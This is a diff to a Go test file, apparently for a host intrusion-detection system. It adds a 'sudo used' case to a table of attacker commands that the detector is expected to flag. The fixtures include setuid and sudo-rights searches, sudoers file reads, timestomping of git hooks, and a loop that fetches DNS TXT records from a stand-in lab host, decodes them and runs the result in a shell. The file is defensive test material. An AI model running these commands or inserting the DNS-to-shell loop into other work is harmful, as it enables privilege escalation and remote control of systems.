@@ -19,6 +19,8 @@ func TestPrivescSearchTimestompDNSTasksHooks(t *testing.T) {
 	}{
 		{"setuid search", "/usr/bin/find", []string{"find", "/usr/", "-perm", "-4000", "-type", "f"}, "privilege-search-web", StageSuspiciousSpawn},
 		{"sudo rights", "/usr/bin/sudo", []string{"sudo", "-n", "-l"}, "privilege-search-web", StageSuspiciousSpawn},
+		// made after news-deser was scored: sudo used at all by the web account
+		{"sudo used", "/usr/bin/sudo", []string{"sudo", "-n", "id"}, "privilege-search-web", StageSuspiciousSpawn},
 		{"sudo rules read", "/usr/bin/cat", []string{"cat", "/etc/sudoers.d/alice"}, "privilege-search-web", 0}, // placed by the merged act's primary rule
 		{"timestomp", "/usr/bin/touch", []string{"touch", "-r", "/srv/git/site/.git/hooks/pre-commit.sample", "/srv/git/site/.git/hooks/post-merge"}, "timestomp-web", StageExfiltrationImpact},
 		{"DNS answers fed to a shell", "/usr/bin/dash", []string{"sh", "-c", "while :; do dig +short TXT 1.h.upd.example.lab | tr -d '\"' | base64 -d | sh; sleep 3; done"}, "web-server-exploitation", StageSuspiciousSpawn}, // a channel started by the web server's shell, as a reverse shell is
